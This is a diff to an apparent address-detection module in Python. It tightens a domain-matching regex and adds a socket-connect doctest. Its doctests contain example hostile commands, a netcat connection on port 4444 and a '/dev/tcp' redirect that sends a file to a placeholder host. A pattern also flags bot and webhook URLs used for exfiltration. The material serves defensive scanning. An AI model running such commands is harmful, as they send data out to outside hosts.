@@ -19,7 +19,7 @@ URL = re.compile(
     re.I,
 )
 _BARE = re.compile(
-    r"(?<![\w@./-])(?:\d{1,3}(?:\.\d{1,3}){3}|(?:[a-z0-9-]{1,63}\.)+(?:com|net|org|io|sh|dev|app|xyz|top|site|online|ru|cn|cc|me|co|info|pw|tk|ml|ga|cf|gq|club|shop|live|fun|pro|example|invalid|test|onion|su|to|ws|link|click|icu|rest|zip|mov))(?::\d{1,5})?(?:/[^\s\"'`<>|;,)]*)?",
+    r"(?<![\w@./-])(?:\d{1,3}(?:\.\d{1,3}){3}|(?:[a-z0-9-]{1,63}\.)+(?:com|net|org|io|sh|dev|app|xyz|top|site|online|ru|cn|cc|me|co|info|pw|tk|ml|ga|cf|gq|club|shop|live|fun|pro|example|invalid|test|onion|su|to|ws|link|click|icu|rest|zip|mov)(?![\w-]))(?::\d{1,5})?(?:/[^\s\"'`<>|;,)]*)?",
     re.I,
 )
 _OTHERS_BOT = re.compile(r"/bot\d{6,}:\w|/webhooks/\d{6,}/\w|/services/T\w{6,}/B\w{6,}/\w")
@@ -107,6 +107,8 @@ def addresses_of(text: str) -> list[str]:
 
     >>> addresses_of("nc 203.0.113.9 4444"), addresses_of("cat notes > /dev/tcp/drop.invalid/80")
     (['203.0.113.9'], ['drop.invalid:80'])
+    >>> addresses_of("s.connect(('127.0.0.1', 80))")
+    ['127.0.0.1']
     """
     urls = urls_of(text)
     rest = URL.sub(" ", text) if urls else text
